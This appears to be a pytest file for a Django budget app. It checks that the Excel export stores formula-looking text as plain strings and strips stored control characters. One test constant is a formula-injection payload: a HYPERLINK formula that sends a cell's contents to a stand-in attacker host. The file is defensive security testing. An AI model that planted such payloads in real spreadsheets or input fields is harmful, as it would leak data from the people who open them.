"""The budget spreadsheet never fails on stored text and never runs it: a control character saved before the
models refused them (or written around them) is dropped, and text that looks like a formula stays text."""

from __future__ import annotations

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from helhedsplan.budget.models import BudgetLine, FundingSource

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")'


def cells(book):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def download(client, plan):
    response = client.get(reverse("budget:export_xlsx", kwargs={"plan": plan.slug}))
    assert response.status_code == 200
    return load_workbook(BytesIO(response.content))


def test_text_that_looks_like_a_formula_is_written_as_text(client_for, personas, amager_plan):
    line = BudgetLine.objects.in_plan(amager_plan).order_by("pk").first()
    line.description = HYPERLINK
    line.full_clean()
    line.save()
    source = FundingSource.objects.in_plan(amager_plan).order_by("pk").first()
    source.name = "=1+2"
    source.full_clean()
    source.save()

    book = download(client_for(personas.reviewer), amager_plan)

    written = {cell.value: cell.data_type for cell in cells(book) if cell.value in (HYPERLINK, "=1+2")}
    assert written == {HYPERLINK: "s", "=1+2": "s"}
    assert not [cell for cell in cells(book) if cell.data_type == "f"]


def test_a_stored_control_character_does_not_break_the_spreadsheet(client_for, personas, amager_plan):
    # Stored as it was before the models refused it (an old row, a database edit): no validation on the way.
    line = BudgetLine.objects.in_plan(amager_plan).order_by("pk").first()
    BudgetLine.objects.filter(pk=line.pk).update(description="Revision\x0b2024\x1b")

    book = download(client_for(personas.reviewer), amager_plan)

    assert "Revision2024" in [cell.value for cell in book["Budget"]["C"]]
